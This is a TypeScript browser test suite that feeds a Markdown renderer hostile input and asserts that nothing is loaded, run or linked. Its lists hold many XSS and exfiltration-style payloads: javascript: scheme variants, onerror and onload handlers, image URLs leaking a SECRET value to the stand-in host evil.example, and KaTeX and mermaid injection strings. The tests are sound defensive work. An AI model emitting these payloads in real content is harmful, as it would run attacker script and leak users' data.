/** Whatever the model writes, the page loads nothing, runs nothing and leads nowhere by itself. */
import assert from 'node:assert/strict';
import type { Lab } from './entry.ts';
import { openMarkdownLab, type MarkdownLab } from './lab.ts';

type Page = typeof globalThis & { lab: Lab; forbiddenNow: () => string[] };

const schemes = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\nscript:alert(1)',
  'java&#10;script:alert(1)',
  '&#106;avascript&colon;alert(1)',
  '\u0001javascript:alert(1)',
  '%6aavascript:alert(1)',
  'vbscript:x',
  'data:text/html,<script>alert(1)</script>',
  'command:workbench.action.quit',
  'vscode://x/y',
  'vscode-insiders:x',
  'file:///etc/passwd',
  'blob:https://evil.example/x',
  '//evil.example/p',
  '\\\\evil.example\\p',
  '/\\evil.example/p',
  'https:evil.example',
  'http:///evil.example',
  'https://',
  '#x',
  'x:y',
  'ftp://evil.example',
];

const hostile = [
  ...schemes.flatMap((href) => [`[a](${href})`, `![a](<${href}>)`, `<${href}>`, `[a][r]\n\n[r]: ${href}\n\n[b][r]`]),
  '![](https://evil.example/a.png?q=SECRET) ![x][i]\n\n[i]: https://evil.example/b.png',
  '<img src="https://evil.example/c.png" onerror="alert(1)">\n\na <img src=//evil.example/d.png> b',
  '<svg onload=alert(1)><image href="https://evil.example/e.png"/></svg>',
  '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object><embed src=//evil.example>',
  '<style>@import url(https://evil.example/f.css)</style>\n<link rel=stylesheet href=//evil.example/g.css>',
  '<form action="https://evil.example/"><input type=image src="https://evil.example/h.png"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
  '<div style="background:url(https://evil.example/i.png)" id="app" onclick=alert(1)>x</div>',
  '<video poster=//evil.example/j.png><source src=//evil.example/k></video><audio src=//evil.example/l autoplay>',
  '<script>alert(1)</script><a href="javascript:alert(1)">x</a><math href="javascript:alert(1)">x</math>',
  '$\\href{javascript:alert(1)}{x}$ $\\url{https://evil.example}$ $\\htmlStyle{background:url(//evil.example)}{x}$',
  '$\\includegraphics[width=1em]{https://evil.example/m.png}$\n\n$$\n\\htmlId{app}{x} \\htmlClass{y}{z} \\htmlData{a=b}{c}\n$$',
  '$\\color{red}{x}$ $\\colorbox{red}{x}$ $\\rule{1em}{1em}$ $\\def\\a{\\a\\a}\\a$ $\\text{<img src=//evil.example/n.png>}$',
  '```mermaid\ngraph TD\nA-->B\nclick A "javascript:alert(1)"\nclick B href "https://evil.example" _blank\n```\n\nafter',
  '```mermaid\n%%{init: {"themeCSS": "@import url(https://evil.example/o.css)", "securityLevel": "loose"}}%%\ngraph TD\nA["<img src=https://evil.example/p.png onerror=alert(1)>"]-->B["<script>alert(1)</script>"]\nstyle A fill:url(https://evil.example/q.svg)\n```\n\nafter',
  '```mermaid\ngraph TD\nA@{ img: "https://evil.example/r.png" }\nB@{ icon: "x" }\nclassDef c fill:#f00,stroke:url(//evil.example/s)\nclass A c\n```\n\nafter',
  '```html\n<img src=https://evil.example/t.png onerror=alert(1)>\n<style>@import url(//evil.example)</style>\n```\n\nafter',
  '```"><img src=//evil.example/u.png onerror=alert(1)>\nx\n```\n\n| <img src=//evil.example/v.png> |\n| - |\n| <b onclick=x> |',
];

describe('hostile text', function () {
  this.timeout(60_000);
  let lab: MarkdownLab;

  before(async () => {
    lab = await openMarkdownLab();
  });

  after(() => lab.close());

  it('makes no element, attribute or address outside the lists at any prefix, and no request', async () => {
    const found = await lab.page.evaluate(
      (texts) =>
        texts.flatMap((text) =>
          (globalThis as unknown as Page).lab.forbiddenThings(text).map((thing) => `${thing} in ${text}`),
        ),
      hostile,
    );
    assert.deepEqual(found, []);
    assert.deepEqual(lab.incidents, []);
  });

  it('stays so after highlighting, maths and diagrams', async () => {
    const pictures = lab.page.locator('img.md-diagram, .md-note');
    await lab.page.waitForFunction(() => document.querySelectorAll('img.md-diagram, .md-note').length >= 3);
    await lab.page.waitForFunction(() => document.querySelector('math mstyle, math [mathcolor]') !== null);
    await lab.page.waitForFunction(() => document.querySelector('.md-hl-keyword, .md-hl-name') !== null);
    assert.ok((await pictures.count()) >= 3);
    assert.deepEqual(await lab.page.evaluate(() => (globalThis as unknown as Page).forbiddenNow()), []);
    assert.deepEqual(lab.incidents, []);
  });

  it('leaves no reference to another place in a diagram', async () => {
    const sources = await lab.page.evaluate(async () => {
      const seen: string[] = [];
      const pictures = document.querySelectorAll<HTMLImageElement>('img.md-diagram');
      for (const picture of pictures) {
        const canvas = document.createElement('canvas');
        canvas.getContext('2d')?.drawImage(picture, 0, 0, 1, 1);
        // A picture with anything foreign in it would taint the canvas.
        seen.push(canvas.toDataURL().slice(0, 15));
      }
      return seen;
    });
    assert.ok(sources.every((source) => source === 'data:image/png;'));
  });
});
